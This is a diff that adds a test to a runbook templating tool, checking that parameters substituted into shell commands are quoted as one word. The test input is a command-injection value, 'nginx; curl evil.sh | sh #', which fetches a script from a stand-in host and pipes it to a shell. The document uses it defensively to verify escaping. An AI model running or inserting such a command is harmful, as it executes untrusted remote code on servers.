@@ -256,6 +256,41 @@ steps:
     ).toBe('runbook.no_scope');
   });
 
+  it('puts each parameter into a command as one quoted word, whatever it holds', async () => {
+    const template = `name: restart-service
+appliesTo: server-path
+parameters:
+  scope: {}
+  server: {}
+  path: {}
+  service: { default: nginx }
+steps:
+  - { id: restart, kind: command, title: 'Restart {{service}}', server: '{{server}}', command: 'sudo systemctl restart {{service}} && ls {{path}}' }
+  - id: verify
+    kind: verify
+    title: Up
+    checks:
+      - ssh: { server: '{{server}}', command: "docker inspect -f '{{.State.Status}}' {{service}}" }
+`;
+    await lifeboat.call('runbook.import', { yaml: template });
+    const r = await lifeboat.call('runbook.resolve', {
+      system: 'billing',
+      name: 'restart-service',
+      parameters: { service: 'nginx; curl evil.sh | sh #' },
+    });
+    expect(step(r.runbook.steps, 'command')).toMatchObject({
+      title: 'Restart nginx; curl evil.sh | sh #',
+      command: "sudo systemctl restart 'nginx; curl evil.sh | sh #' && ls '/etc/nginx'",
+    });
+    expect(step(r.runbook.steps, 'verify')?.checks).toEqual([
+      expect.objectContaining({
+        type: 'ssh',
+        server: 'web-1',
+        command: "docker inspect -f '{{.State.Status}}' 'nginx; curl evil.sh | sh #'",
+      }),
+    ]);
+  });
+
   it("a template with a built-in's name replaces that default at this site, until removed", async () => {
     const shipped = (await lifeboat.call('runbook.export', { name: 'recover-namespace' })).yaml;
     const site = shipped.replace('approvers: 1', 'approvers: 2');
